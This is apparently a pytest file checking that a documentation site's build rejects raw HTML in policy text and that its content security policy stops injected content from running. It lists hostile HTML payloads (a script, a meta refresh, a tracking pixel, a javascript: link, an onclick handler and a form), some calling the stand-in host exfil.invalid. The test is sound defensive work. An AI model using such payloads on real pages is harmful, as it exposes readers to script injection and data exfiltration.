"""A group's policy text cannot run anything in a reader's browser or take the reader away.

Two layers, each shown on its own: the build refuses raw HTML in the text (tests/helpers/hostile.py,
MARKUP_CASES), and should anything get past it, the page's policy runs only the theme's own scripts
and the post-process takes out a refresh. Here the first layer is switched off, so the hostile text
reaches the page, and Chromium shows that nothing in it runs, nothing leaves, and the reader stays.
"""
from __future__ import annotations

import shutil

import pytest

from handbook.errors import HandbookError
from handbook.policy import text
from handbook.site.build import build as build_site

from helpers import REPO
from helpers.chromium import wait_for
from helpers.hostile import policy_with

BLOCKS = [
    '<script>window.__pwned = 1; location = "https://exfil.invalid/?" + document.title</script>',
    '<meta http-equiv="refresh" content="1; url=https://exfil.invalid/refresh">',
    '<img id="hbpixel" src="https://exfil.invalid/pixel.gif" alt="">',
    '<a id="hbjs" href="javascript:window.__pwned=2">a link</a>',
    '<p id="hbattr" onclick="window.__pwned=3">a paragraph</p>',
    '<form id="hbform" action="https://exfil.invalid/form"><input name="a" value="answers"></form>',
]
HOSTILE = policy_with("\n\n" + "\n\n".join(BLOCKS) + "\n\n")


@pytest.fixture(scope="module")
def group(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile-text")
    shutil.copy(REPO / "group.yml", folder / "group.yml")
    (folder / "policy").mkdir()
    (folder / "policy" / "1.1.md").write_text(HOSTILE, encoding="utf-8")
    return folder


def test_the_build_refuses_the_text(group, tmp_path):
    with pytest.raises(HandbookError, match=r"1\.1\.md, line \d+: it has raw HTML"):
        build_site(group / "group.yml", site_dir=tmp_path / "site")
    assert not (tmp_path / "site").exists()


@pytest.fixture(scope="module")
def unchecked_site(group, tmp_path_factory):
    """The site as if the build's check had a gap: the text goes into the page as written."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(text, "check_source", lambda *args, **kwargs: None)
        patch.setattr(text, "check_rendered", lambda rendered, where: rendered)
        return build_site(group / "group.yml", site_dir=tmp_path_factory.mktemp("unchecked") / "site")


def test_nothing_the_text_holds_runs_or_leaves_and_the_reader_stays(unchecked_site, serve, page):
    url = serve(unchecked_site) + "policy/introduction/"
    failed = {}
    page.on("requestfailed", lambda request: failed.setdefault(request.url, request.failure))
    page.goto(url, wait_until="load")
    assert page.locator("#hbpixel").count() == 1 and page.locator("#hbform").count() == 1  # the text is there
    assert page.evaluate("typeof __md_get") == "function"  # the theme's own script ran
    page.click("#hbjs")
    page.click("#hbattr")
    page.evaluate("document.getElementById('hbform').submit()")
    page.wait_for_timeout(2500)  # past the refresh's second
    wait_for(page, "document.readyState === 'complete'")
    assert page.url == url
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("document.querySelector('meta[http-equiv=refresh i]')") is None
    outside = [seen for seen in page.seen if "exfil.invalid" in seen]
    assert outside, "the picture was asked for (and stopped by the policy, below)"
    assert {failed.get(seen) for seen in outside} == {"csp"}  # refused by the page's policy, never sent
